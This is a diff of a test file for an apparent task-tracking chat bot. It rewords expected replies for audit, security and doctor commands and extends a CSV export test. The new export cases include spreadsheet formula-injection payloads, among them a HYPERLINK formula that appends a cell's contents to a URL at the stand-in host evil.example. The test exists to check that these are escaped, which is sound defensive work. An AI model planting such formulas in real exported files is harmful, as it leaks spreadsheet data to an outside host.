@@ -38,8 +38,8 @@ describe('/audit', () => {
 
     bot.user.say('/audit web-1')
 
-    const { text } = await bot.user.nextMessage('What was changed in WEB-1')
-    expect(text).toMatch(/WEB-1 Inbox → Todo, priority None → High, due none → Tue 1 Dec( 2026)? · you/)
+    const { text } = await bot.user.nextMessage('Change history of WEB-1')
+    expect(text).toMatch(/WEB-1 Inbox → Todo, priority none → high, due none → Tue 1 Dec( 2026)? · you/)
     expect(text).toMatch(/WEB-1 created · you/)
   })
 
@@ -73,20 +73,20 @@ test('/security names strangers and refused tokens', async () => {
   bot.user.say('/security')
 
   const { text } = await bot.user.nextMessage('Security')
-  expect(text).toContain('Stranger 2002 wrote to me, and got no answer')
-  expect(text).toContain('a token was refused')
+  expect(text).toContain('Ignored a message from user 2002')
+  expect(text).toContain('Token rejected')
 })
 
-test('/doctor names a fault with its mend', async () => {
+test('/doctor names a problem with its fix', async () => {
   bot.world.bot.user.supports_inline_queries = false
   await bot.restart()
   bot.user.say('/doctor')
 
   const { text } = await bot.user.nextMessage('🩺')
 
-  expect(text).toContain('Inline search: is off.')
+  expect(text).toContain('Inline search: off.')
   expect(text).toContain('/setinline')
-  expect(text).toContain('✅ Bot token')
+  expect(text).toContain('\nBot token: ')
 })
 
 describe('/export', () => {
@@ -116,6 +116,7 @@ describe('/export', () => {
     await addTasks(bot, [
       { title: '=HYPERLINK("http://evil.example","x")' },
       { title: 'Quotes " and, commas', description: 'two\nlines' },
+      { title: '＝1+1', description: '=HYPERLINK("https://evil.example/?"&A2,"open")\nsecond line' },
     ])
 
     bot.user.say('/export')
@@ -130,8 +131,10 @@ describe('/export', () => {
     expect(data.map((row) => row.title)).toEqual([
       `'=HYPERLINK("http://evil.example","x")`,
       'Quotes " and, commas',
+      "'＝1+1",
     ])
     expect(data[1]?.note).toBe('two\nlines')
+    expect(data[2]?.note).toBe(`'=HYPERLINK("https://evil.example/?"&A2,"open")\nsecond line`)
   })
 
   test('is packed where the board is large', async () => {
